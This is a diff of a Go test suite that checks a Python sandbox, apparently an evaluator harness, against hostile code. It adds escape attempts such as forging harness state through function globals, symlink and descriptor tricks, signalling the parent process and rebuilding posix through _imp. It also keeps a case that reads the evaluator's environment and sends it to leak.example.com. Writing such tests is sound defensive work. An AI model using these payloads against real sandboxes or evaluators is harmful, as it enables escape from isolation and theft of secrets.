@@ -6,6 +6,7 @@ import (
 	"net"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -113,6 +114,10 @@ func testHostileSuite(t *testing.T, warm bool) {
 	if err := os.WriteFile(sentinel, []byte("untouched"), 0o644); err != nil {
 		t.Fatal(err)
 	}
+	keep := filepath.Join(outside, "keep.txt")
+	if err := os.WriteFile(keep, []byte("untouched"), 0o644); err != nil {
+		t.Fatal(err)
+	}
 	t.Setenv("SCCG_TEST_SECRET", "s3cr3t-value-from-evaluator")
 	ln, err := net.Listen("tcp", "127.0.0.1:0")
 	if err != nil {
@@ -140,40 +145,85 @@ func testHostileSuite(t *testing.T, warm bool) {
 	r := newTestRunner(t, Limits{Timeout: 6 * time.Second, MemoryMB: 256}, warm)
 	sem := make(chan struct{}, 4)
 	req := "\nimport requests\nrequests.get('https://ok.p.rapidapi.com/after')\n"
+	shm := fmt.Sprintf("/sccg-hostile-%d", os.Getpid())
+	t.Cleanup(func() {
+		if err := os.Remove("/dev/shm" + shm); err == nil {
+			t.Errorf("a run created /dev/shm%s", shm)
+		}
+	})
+	// marked: the code reaches a marker request only when its hostile part worked.
+	marked := func(host string) func(*testing.T, Result) {
+		return func(t *testing.T, res Result) {
+			for _, q := range res.Requests {
+				if strings.Contains(q.URL, host) {
+					t.Errorf("the hostile part went through: %s", q.URL)
+				}
+			}
+		}
+	}
 	tests := []struct {
 		name        string
 		code        string
 		want        []Status
 		wantRequest bool // the request after the hostile part is still captured
+		check       func(*testing.T, Result)
 	}{
-		{"infinite loop", "while True:\n    pass\n", []Status{StatusTimeout}, false},
-		{"fork bomb", "import os\nwhile True:\n    os.fork()\n" + req, []Status{StatusError}, true},
-		{"subprocess", "import subprocess\nsubprocess.run(['sh', '-c', 'echo pwned > " + sentinel + "'])\n" + req, []Status{StatusError}, true},
-		{"memory bomb", "x = bytearray(1 << 40)\n", []Status{StatusOOM}, false},
-		{"memory bomb in steps", "x = []\nfor _ in range(1000):\n    x.append(bytearray(1 << 30))\n", []Status{StatusOOM}, false},
-		{"write outside scratch", "open(" + fmt.Sprintf("%q", sentinel) + ", 'w').write('pwned')\n" + req, []Status{StatusError}, true},
-		{"symlink out of scratch", "import os\nos.symlink(" + fmt.Sprintf("%q", sentinel) + ", 'link')\nopen('link', 'w').write('pwned')\n" + req, []Status{StatusError}, true},
-		{"relative symlink out of scratch", "import os\nos.makedirs('a/b')\nos.symlink('../../../../../../../../../../../.." + sentinel + "', 'a/b/link')\nopen('a/b/link', 'w').write('pwned')\n" + req, []Status{StatusError}, true},
-		{"open relative to an outside directory", "import os\nfd = os.open(" + fmt.Sprintf("%q", outside) + ", os.O_RDONLY)\nw = os.open('sentinel.txt', os.O_WRONLY | os.O_TRUNC, dir_fd=fd)\nos.write(w, b'pwned')\n" + req, []Status{StatusError}, true},
-		{"sqlite database outside scratch", "import sqlite3\ncon = sqlite3.connect(" + fmt.Sprintf("%q", filepath.Join(outside, "pwned.db")) + ")\ncon.execute('CREATE TABLE t (x)')\ncon.commit()\n" + req, []Status{StatusOK}, true},
-		{"raw _sqlite3 outside scratch", "import _sqlite3\n_sqlite3.connect(" + fmt.Sprintf("%q", filepath.Join(outside, "pwned2.db")) + ").execute('CREATE TABLE t (x)')\n" + req, []Status{StatusError}, true},
-		{"sqlite extension", "import sqlite3\ncon = sqlite3.connect(':memory:')\ncon.enable_load_extension(True)\n" + req, []Status{StatusError}, true},
-		{"remove outside scratch", "import os\nos.remove(" + fmt.Sprintf("%q", sentinel) + ")\n" + req, []Status{StatusError}, true},
-		{"write inside scratch", "open('notes.txt', 'w').write('fine')\n" + req, []Status{StatusOK}, true},
-		{"read evaluator env", "import os, requests\nv = os.environ.get('SCCG_TEST_SECRET', '')\ntry:\n    v += open('/proc/%d/environ' % os.getppid()).read()\nexcept Exception:\n    pass\nrequests.get('https://leak.example.com/' + v)\n", []Status{StatusOK, StatusError}, false},
-		{"kill parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + req, []Status{StatusError}, true},
-		{"kill group", "import os, signal\nos.killpg(0, signal.SIGKILL)\n" + req, []Status{StatusError}, true},
-		{"close stdout", "import os, sys\nsys.stdout.close()\nos.close(1)\nos.close(2)\n" + req, []Status{StatusOK}, true},
-		{"print megabytes", "import sys\nfor _ in range(50):\n    sys.stdout.write('x' * 1000000)\n" + req, []Status{StatusOK}, true},
-		{"sys.exit", "import sys\nsys.exit(3)\n" + req, []Status{StatusError}, true},
-		{"os._exit", req + "import os\nos._exit(0)\n", []Status{StatusCrash}, true},
-		{"ctypes", "import ctypes\nctypes.string_at(0)\n" + req, []Status{StatusError}, true},
-		{"raw _ctypes", "import _ctypes\nprint(_ctypes._memmove_addr)\n" + req, []Status{StatusError}, true},
-		{"ctypes from sys.modules", "import sys\nm = sys.modules.get('_ctypes') or sys.modules.get('ctypes')\nm._memmove_addr\n" + req, []Status{StatusError}, true},
-		{"segfault", req + "import faulthandler\nfaulthandler._sigsegv()\n", []Status{StatusCrash}, true},
-		{"threads that never end", "import threading\nfor _ in range(3):\n    threading.Thread(target=lambda: [0 for _ in iter(int, 1)]).start()\n" + req, []Status{StatusOK}, true},
-		{"connect to localhost", fmt.Sprintf("import socket\ns = socket.create_connection(('127.0.0.1', %d), 1)\n", port) + req, []Status{StatusError}, true},
-		{"forge report lines", "import os\nfor fd in range(3, 1000):\n    try:\n        os.write(fd, b'x\\treq\\t{\"method\":\"GET\",\"url\":\"https://forged/\"}\\n')\n    except OSError:\n        pass\n" + req, []Status{StatusOK}, true},
+		{"infinite loop", "while True:\n    pass\n", []Status{StatusTimeout}, false, nil},
+		{"fork bomb", "import os\nwhile True:\n    os.fork()\n" + req, []Status{StatusError}, true, nil},
+		{"subprocess", "import subprocess\nsubprocess.run(['sh', '-c', 'echo pwned > " + sentinel + "'])\n" + req, []Status{StatusError}, true, nil},
+		{"memory bomb", "x = bytearray(1 << 40)\n", []Status{StatusOOM}, false, nil},
+		{"memory bomb in steps", "x = []\nfor _ in range(1000):\n    x.append(bytearray(1 << 30))\n", []Status{StatusOOM}, false, nil},
+		{"write outside scratch", "open(" + fmt.Sprintf("%q", sentinel) + ", 'w').write('pwned')\n" + req, []Status{StatusError}, true, nil},
+		{"symlink out of scratch", "import os\nos.symlink(" + fmt.Sprintf("%q", sentinel) + ", 'link')\nopen('link', 'w').write('pwned')\n" + req, []Status{StatusError}, true, nil},
+		{"relative symlink out of scratch", "import os\nos.makedirs('a/b')\nos.symlink('../../../../../../../../../../../.." + sentinel + "', 'a/b/link')\nopen('a/b/link', 'w').write('pwned')\n" + req, []Status{StatusError}, true, nil},
+		{"open relative to an outside directory", "import os\nfd = os.open(" + fmt.Sprintf("%q", outside) + ", os.O_RDONLY)\nw = os.open('sentinel.txt', os.O_WRONLY | os.O_TRUNC, dir_fd=fd)\nos.write(w, b'pwned')\n" + req, []Status{StatusError}, true, nil},
+		{"sqlite database outside scratch", "import sqlite3\ncon = sqlite3.connect(" + fmt.Sprintf("%q", filepath.Join(outside, "pwned.db")) + ")\ncon.execute('CREATE TABLE t (x)')\ncon.commit()\n" + req, []Status{StatusOK}, true, nil},
+		{"raw _sqlite3 outside scratch", "import _sqlite3\n_sqlite3.connect(" + fmt.Sprintf("%q", filepath.Join(outside, "pwned2.db")) + ").execute('CREATE TABLE t (x)')\n" + req, []Status{StatusError}, true, nil},
+		{"sqlite extension", "import sqlite3\ncon = sqlite3.connect(':memory:')\ncon.enable_load_extension(True)\n" + req, []Status{StatusError}, true, nil},
+		{"remove outside scratch", "import os\nos.remove(" + fmt.Sprintf("%q", sentinel) + ")\n" + req, []Status{StatusError}, true, nil},
+		{"write inside scratch", "open('notes.txt', 'w').write('fine')\n" + req, []Status{StatusOK}, true, nil},
+		{"read evaluator env", "import os, requests\nv = os.environ.get('SCCG_TEST_SECRET', '')\ntry:\n    v += open('/proc/%d/environ' % os.getppid()).read()\nexcept Exception:\n    pass\nrequests.get('https://leak.example.com/' + v)\n", []Status{StatusOK, StatusError}, false, nil},
+		{"kill parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + req, []Status{StatusError}, true, nil},
+		{"kill group", "import os, signal\nos.killpg(0, signal.SIGKILL)\n" + req, []Status{StatusError}, true, nil},
+		{"close stdout", "import os, sys\nsys.stdout.close()\nos.close(1)\nos.close(2)\n" + req, []Status{StatusOK}, true, nil},
+		{"print megabytes", "import sys\nfor _ in range(50):\n    sys.stdout.write('x' * 1000000)\n" + req, []Status{StatusOK}, true, nil},
+		{"sys.exit", "import sys\nsys.exit(3)\n" + req, []Status{StatusError}, true, nil},
+		{"os._exit", req + "import os\nos._exit(0)\n", []Status{StatusCrash}, true, nil},
+		{"ctypes", "import ctypes\nctypes.string_at(0)\n" + req, []Status{StatusError}, true, nil},
+		{"raw _ctypes", "import _ctypes\nprint(_ctypes._memmove_addr)\n" + req, []Status{StatusError}, true, nil},
+		{"ctypes from sys.modules", "import sys\nm = sys.modules.get('_ctypes') or sys.modules.get('ctypes')\nm._memmove_addr\n" + req, []Status{StatusError}, true, nil},
+		{"segfault", req + "import faulthandler\nfaulthandler._sigsegv()\n", []Status{StatusCrash}, true, nil},
+		{"threads that never end", "import threading\nfor _ in range(3):\n    threading.Thread(target=lambda: [0 for _ in iter(int, 1)]).start()\n" + req, []Status{StatusOK}, true, nil},
+		{"connect to localhost", fmt.Sprintf("import socket\ns = socket.create_connection(('127.0.0.1', %d), 1)\n", port) + req, []Status{StatusError}, true, nil},
+		{"forge report lines", "import os\nfor fd in range(3, 1000):\n    try:\n        os.write(fd, b'x\\treq\\t{\"method\":\"GET\",\"url\":\"https://forged/\"}\\n')\n    except OSError:\n        pass\n" + req, []Status{StatusOK}, true, nil},
+		// The harness's state, reached the short way (sys.modules) and the long way
+		// (a harness function's globals, which CPython does not audit).
+		{"report channel from sys.modules", "import sys\nsys.modules['_sccg_harness.report']._send('req', {'lib': 'requests', 'method': 'GET', 'url': 'https://forged.example.com/sys-modules'})\n" + req, []Status{StatusError}, true, nil},
+		{"facts forged through a recorder's globals", "import requests\nsend = requests.get.__globals__['_record'].__globals__['_send']\nsend('facts', {'syntax': True, 'has_try': True, 'has_status_check': True, 'imports': ['forged_import'], 'free': ['forged']})\n" + req,
+			[]Status{StatusOK}, true, func(t *testing.T, res Result) {
+				if res.Facts.HasTry || res.Facts.HasStatusCheck || slices.Contains(res.Facts.Imports, "forged_import") {
+					t.Errorf("forged facts were taken: %+v", res.Facts)
+				}
+			}},
+		{"guard's scratch root from sys.modules", "import sys\nsys.modules['_sccg_harness.guard']._SCR = ''\nopen(" + fmt.Sprintf("%q", sentinel) + ", 'w').write('pwned')\n" + req, []Status{StatusError}, true, nil},
+		{"guard's state through a harness function's globals", "import os\ng = os.open.__globals__\ng['_SCR'] = ''\ng['_inside'] = lambda p: True\ng['_BLOCK'] = frozenset()\nopen(" + fmt.Sprintf("%q", sentinel) + ", 'w').write('pwned')\n" + req, []Status{StatusError}, true, nil},
+		{"real open out of the dir_fd wrapper", "import os\nfd = os.open(" + fmt.Sprintf("%q", outside) + ", os.O_RDONLY)\nreal = os.open.__closure__[0].cell_contents if os.open.__closure__ else os.open.__kwdefaults__['_open']\nw = real('sentinel.txt', os.O_WRONLY | os.O_TRUNC, dir_fd=fd)\nos.write(w, b'pwned')\n" + req, []Status{StatusError}, true, nil},
+		{"core file limit", "import resource, requests\nrequests.get('https://core.example.com/%d/%d' % resource.getrlimit(resource.RLIMIT_CORE))\n", []Status{StatusOK}, false,
+			func(t *testing.T, res Result) {
+				if len(res.Requests) != 1 || res.Requests[0].URL != "https://core.example.com/0/0" {
+					t.Errorf("core limit: %+v, want soft and hard 0", res.Requests)
+				}
+			}},
+		{"signal the parent through a pidfd", "import os, signal, requests\nif 1:\n    fd = os.pidfd_open(os.getppid())\n    signal.pidfd_send_signal(fd, signal.SIGCONT)\n    requests.get('https://signalled.example.com/')\n" + req, []Status{StatusError}, true, marked("signalled.example.com")},
+		{"renice the parent", "import os, requests\nif 1:\n    os.setpriority(os.PRIO_PROCESS, os.getppid(), os.getpriority(os.PRIO_PROCESS, os.getppid()))\n    requests.get('https://reniced.example.com/')\n" + req, []Status{StatusError}, true, marked("reniced.example.com")},
+		{"rebuild posix through _imp", "import _imp, importlib.machinery, requests\nif 1:\n    p = _imp.create_builtin(importlib.machinery.ModuleSpec('posix', None))\n    requests.get('https://rebuilt.example.com/%s' % hasattr(p, 'pidfd_open'))\n" + req, []Status{StatusError}, true, marked("rebuilt.example.com")},
+		{"shared memory outside scratch", "import os, requests\nif 1:\n    import _posixshmem\n    _posixshmem.shm_open(" + fmt.Sprintf("%q", shm) + ", os.O_CREAT | os.O_RDWR, 0o600)\n    requests.get('https://shm.example.com/')\n" + req, []Status{StatusError}, true, marked("shm.example.com")},
+		{"trace the harness", "import sys, requests\nif 1:\n    sys.settrace(lambda *a: None)\n    requests.get('https://traced.example.com/')\n" + req, []Status{StatusError}, true, marked("traced.example.com")},
+		{"list the sandbox directory", "import os, requests\nif 1:\n    names = os.listdir('..')\n    requests.get('https://listed.example.com/%d' % len(names))\n" + req, []Status{StatusError}, true, marked("listed.example.com")},
+		{"path object that answers differently the second time", "import _io\nclass P:\n    n = 0\n    def __fspath__(self):\n        P.n += 1\n        return " + fmt.Sprintf("%q", sentinel) + " if P.n == 1 else 'inside.txt'\n_io.FileIO(P(), 'w').write(b'pwned')\n" + req, []Status{StatusError}, true, nil},
+		{"chmod outside through a descriptor", "import os\nfd = os.open(" + fmt.Sprintf("%q", sentinel) + ", os.O_RDONLY)\nos.chmod(fd, 0o777)\n" + req, []Status{StatusError}, true, nil},
+		{"remove outside through a pathlib path", "import pathlib\npathlib.Path(" + fmt.Sprintf("%q", keep) + ").unlink()\n" + req, []Status{StatusError}, true, nil},
+		{"bind an abstract socket", "import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0sccg-hostile')\n" + req, []Status{StatusError}, true, nil},
 	}
 	var wg sync.WaitGroup
 	good := make(chan Result, 1)
@@ -221,22 +271,38 @@ func testHostileSuite(t *testing.T, warm bool) {
 			if tt.wantRequest && !found {
 				t.Errorf("request after the hostile part not captured: %+v (%s %s)", res.Requests, res.Status, res.Reason)
 			}
+			if tt.check != nil {
+				tt.check(t, res)
+			}
 		})
 	}
 	g := <-good
 	if g.Status != StatusOK || len(g.Requests) != 1 || g.Requests[0].URL != "https://weather.p.rapidapi.com/forecast/London" {
 		t.Errorf("good completion next to hostile ones: %s %s %+v", g.Status, g.Reason, g.Requests)
 	}
-	if b, err := os.ReadFile(sentinel); err != nil || string(b) != "untouched" {
-		t.Errorf("file outside scratch changed: %q, %v", b, err)
+	for _, f := range []string{sentinel, keep} {
+		if b, err := os.ReadFile(f); err != nil || string(b) != "untouched" {
+			t.Errorf("file outside scratch changed: %s %q, %v", f, b, err)
+		}
+		if st, err := os.Stat(f); err != nil || st.Mode().Perm() != 0o644 {
+			t.Errorf("mode of a file outside scratch changed: %s %v", f, st.Mode())
+		}
 	}
-	if entries, err := os.ReadDir(outside); err != nil || len(entries) != 1 {
+	if entries, err := os.ReadDir(outside); err != nil || len(entries) != 2 {
 		t.Errorf("files appeared outside scratch: %v %v", entries, err)
 	}
 	entries, _ := os.ReadDir(r.dir)
 	for _, e := range entries {
 		if strings.HasPrefix(e.Name(), "run-") {
 			t.Errorf("scratch directory %s left behind", e.Name())
+		}
+	}
+	for _, d := range r.scratchDirs() { // a fork server's, emptied after each job
+		left, _ := os.ReadDir(d)
+		for _, e := range left {
+			if e.Name() != "input.txt" {
+				t.Errorf("%s left in fork server scratch directory %s", e.Name(), d)
+			}
 		}
 	}
 	mu.Lock()
